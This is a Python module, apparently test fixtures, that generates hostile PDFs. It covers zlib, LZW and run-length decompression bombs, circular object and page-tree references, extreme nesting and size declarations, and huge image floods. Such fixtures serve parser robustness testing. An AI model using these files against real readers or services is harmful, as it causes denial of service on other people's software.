"""PDFs that were built to hurt their reader: bombs, loops, depths and floods, each by the name of what it does."""

import zlib
from collections.abc import Callable, Sequence

HEAD = b"%PDF-1.7\n"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
ZEROS = 300_000_000  # bytes that a bomb of a few hundred kilobytes unpacks to


def pdf(objects: Sequence[bytes], extra: bytes = b"", root: bytes = b"1 0 R") -> bytes:
    """A file of these objects, numbered from one, with a true table of places."""
    out, places = bytearray(HEAD), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    out += b"trailer\n<< /Size %d /Root %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, extra, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"", length: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %s %s >>\nstream\n%s\nendstream" % (length or b"%d" % len(data), entries, data)


def page(content: bytes, font: bytes = FONT, *more: bytes) -> bytes:
    """A file of one page with this content stream, and more objects from number 6 on."""
    return pdf([CATALOG, PAGES, PAGE, content, font, *more])


def with_page(entries: bytes, *more: bytes) -> bytes:
    """A file whose page has other entries; more objects from number 4 on."""
    return pdf([CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R %s >>" % entries, *more])


def deflated(size: int, times: int = 1, unit: bytes = b"\0") -> bytes:
    """Zeros, or a unit again and again, packed that often."""
    packer = zlib.compressobj(9)
    block = unit * (1_000_000 // len(unit))
    data = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def filters(*names: bytes, more: bytes = b"") -> bytes:
    """The entry that names the filters of a stream."""
    return b"/Filter [" + b" ".join(b"/" + name for name in names) + b"] " + more


def lzw(codes: int) -> bytes:
    """An LZW stream that repeats clear-table and one growing run."""
    bits = "".join(f"{code:09b}" for code in [256, 65, *range(258, 500)]) * codes
    return int(bits.ljust(-len(bits) % 8 + len(bits), "0"), 2).to_bytes((len(bits) + 7) // 8, "big")


BOMBS: dict[str, Callable[[], bytes]] = {
    "flate bomb": lambda: page(stream(deflated(ZEROS), filters(b"FlateDecode"))),
    "flate in flate": lambda: page(stream(deflated(ZEROS * 3, 2), filters(b"FlateDecode", b"FlateDecode"))),
    "flate of operators": lambda: page(stream(deflated(60_000_000, 1, b"BT (a) Tj ET\n"), filters(b"FlateDecode"))),
    "flate of numbers": lambda: page(stream(deflated(70_000_000, 1, b"1 2 3 4 5\n"), filters(b"FlateDecode"))),
    "hundred filters": lambda: page(stream(deflated(1_000_000, 9), filters(*[b"FlateDecode"] * 100))),
    "hexadecimal flate": lambda: page(
        stream(deflated(ZEROS // 3).hex().encode(), filters(b"ASCIIHexDecode", b"FlateDecode"))
    ),
    "lzw bomb": lambda: page(stream(lzw(600), filters(b"LZWDecode"))),
    "run length bomb": lambda: page(stream(b"\x81a" * 900_000 + b"\x80", filters(b"RunLengthDecode"))),
    "object stream bomb": lambda: with_page(
        b"/Contents 4 0 R", stream(deflated(ZEROS), b"/Type /ObjStm /N 100000 /First 10 " + filters(b"FlateDecode"))
    ),
    "cross-reference stream bomb": lambda: (
        HEAD
        + b"1 0 obj\n"
        + stream(deflated(ZEROS), b"/Type /XRef /Size 90000000 /W [1 2 1] /Root 1 0 R " + filters(b"FlateDecode"))
        + b"\nendobj\nstartxref\n9\n%%EOF\n"
    ),
}
"""The ten kinds of bombs that unpack to more than they are."""


def predictor(entries: bytes) -> bytes:
    """A content stream whose predictor's rows are declared so."""
    return page(
        stream(deflated(1_000_000), filters(b"FlateDecode", more=b"/DecodeParms << /Predictor 15 %s >>" % entries))
    )


def tree(depth: int) -> bytes:
    """A page tree that deep."""
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 3) for number in range(depth)]
    return pdf([CATALOG, *nodes, PAGE])


def wide(count: int) -> bytes:
    """A page tree that wide: the same page again and again."""
    return pdf(
        [CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count), PAGE, stream(b""), FONT]
    )


def doubling(levels: int) -> bytes:
    """A page tree whose every node holds the next one twice: two to the power of its levels pages."""
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (number + 3, number + 3) for number in range(levels)
    ]
    return pdf([CATALOG, *nodes, PAGE])


LOOPS: dict[str, Callable[[], bytes]] = {
    "page tree in itself": lambda: pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    "page trees in each other": lambda: pdf(
        [CATALOG, b"<< /Type /Pages /Kids [3 0 R] >>", b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R >>"]
    ),
    "page that is its own parent": lambda: pdf([CATALOG, PAGES, b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>"]),
    "object that is itself": lambda: pdf([CATALOG, b"2 0 R"]),
    "objects that are each other": lambda: pdf([CATALOG, b"3 0 R", b"2 0 R"]),
    "content that is itself": lambda: with_page(b"/Contents 4 0 R", b"4 0 R"),
    "content list in itself": lambda: with_page(b"/Contents 4 0 R", b"[4 0 R 4 0 R]"),
    "length of its own stream": lambda: page(stream(b"BT ET", length=b"4 0 R")),
    "form in itself": lambda: with_page(
        b"/Contents 4 0 R /Resources 5 0 R",
        stream(b"/X Do"),
        b"<< /XObject << /X 6 0 R >> >>",
        stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /Resources 5 0 R"),
    ),
    "font of itself": lambda: page(
        stream(b"BT /F1 9 Tf (a) Tj ET"), b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /Encoding 5 0 R >>"
    ),
    "root that is a loop": lambda: pdf([b"1 0 R"]),
    "table that comes before itself": lambda: pdf([CATALOG, PAGES, PAGE], b"/Prev 9"),
    "tables without end": lambda: pdf([CATALOG, PAGES, PAGE]).replace(b"startxref", b"%startxref\nstartxref\n0"),
    "resources in resources": lambda: with_page(
        b"/Contents 4 0 R /Resources 5 0 R", stream(b"/X Do"), b"<< /XObject 5 0 R /Font 5 0 R >>"
    ),
}


def unpacked(what: bytes) -> bytes:
    """A page whose content is written out."""
    return page(stream(what))


def cmap(body: bytes) -> bytes:
    """A page whose font has this table of characters."""
    font = b"<< /Type /Font /Subtype /Type0 /ToUnicode 6 0 R /Encoding /Identity-H /DescendantFonts [7 0 R] >>"
    below = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0 [1]] >>"
    return page(stream(b"BT /F1 9 Tf <00410042> Tj ET"), font, stream(body), below)


def widths(entries: bytes) -> bytes:
    """A page whose font declares these widths."""
    font = b"<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /DescendantFonts [6 0 R] >>"
    return page(
        stream(b"BT /F1 9 Tf <0041> Tj ET"), font, b"<< /Type /Font /Subtype /CIDFontType2 /W [%s] >>" % entries
    )


DEPTHS: dict[str, Callable[[], bytes]] = {
    "page tree of ten thousand levels": lambda: tree(10_000),
    "two hundred thousand pages": lambda: wide(200_000),
    "page tree that doubles": lambda: doubling(60),
    "two billion pages": lambda: pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", PAGE]),
    "lists in lists": lambda: pdf([CATALOG, PAGES, b"[" * 200_000]),
    "tables in tables": lambda: pdf([CATALOG, PAGES, b"<< /A " * 200_000]),
    "text in brackets in brackets": lambda: unpacked(b"BT (" + b"(" * 500_000 + b") Tj ET"),
    "text without end": lambda: unpacked(b"BT (" + b"a" * 1_500_000),
    "a name of a megabyte": lambda: unpacked(b"/" + b"N" * 1_500_000 + b" gs"),
    "a number of a megabyte": lambda: unpacked(b"9" * 1_500_000 + b" w"),
    "states without end": lambda: unpacked(b"q " * 700_000),
    "a million operators": lambda: unpacked(b"BT /F1 9 Tf " + b"(a) Tj 1 0 Td " * 120_000 + b"ET"),
    "text spread over a kilometre": lambda: unpacked(b"BT /F1 9 Tf " + b"(a) Tj 99999999 0 Td " * 2_000 + b"ET"),
    "text spread over a tower": lambda: unpacked(b"BT /F1 9 Tf " + b"(a) Tj 0 -9999999 Td " * 2_000 + b"ET"),
    "letters of no size": lambda: unpacked(b"BT /F1 0.0000001 Tf " + b"(a) Tj 900 0 Td " * 20_000 + b"ET"),
    "comments without end": lambda: pdf([CATALOG, PAGES, b"%" * 1_500_000]),
    "a table of a billion places": lambda: (
        HEAD
        + b"xref\n0 1000000000\n"
        + b"0000000009 00000 n \n" * 50_000
        + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF"
    ),
    "no table, a hundred thousand objects": lambda: (
        HEAD + b"1 0 obj\n<< >>\nendobj\n" * 80_000 + b"trailer\n<< /Root 1 0 R >>"
    ),
    "characters by the million": lambda: cmap(
        b"100 beginbfrange\n" + b"<0000> <FFFF> <0000>\n" * 30_000 + b"endbfrange"
    ),
    "one range of all characters": lambda: cmap(b"1 beginbfrange\n<00000000> <FFFFFFFF> <0000>\nendbfrange"),
    "widths by the billion": lambda: widths(b"0 2000000000 500"),
}


def image(filter_: bytes, entries: bytes = b"") -> bytes:
    """A page with a picture of a hundred thousand by a hundred thousand points, packed so."""
    picture = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB "
    return with_page(
        b"/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>",
        stream(b"q 100 0 0 100 0 0 cm /X Do Q"),
        stream(deflated(30_000_000), picture + filters(filter_, more=entries)),
    )


FLOODS: dict[str, Callable[[], bytes]] = {
    "picture of ten thousand million points": lambda: image(b"FlateDecode"),
    "photograph of ten thousand million points": lambda: image(b"DCTDecode"),
    "fax of ten thousand million points": lambda: image(
        b"CCITTFaxDecode", b"/DecodeParms << /K -1 /Columns 100000 /Rows 100000 >>"
    ),
    "picture inside the page": lambda: unpacked(b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID " + b"\0" * 900_000),
    "picture with rows of a gigabyte": lambda: predictor(b"/Columns 1000000000 /Colors 4"),
    "picture with a row for each byte": lambda: predictor(b"/Columns 1 /Colors 1 /BitsPerComponent 1"),
}

ALL: dict[str, Callable[[], bytes]] = BOMBS | LOOPS | DEPTHS | FLOODS
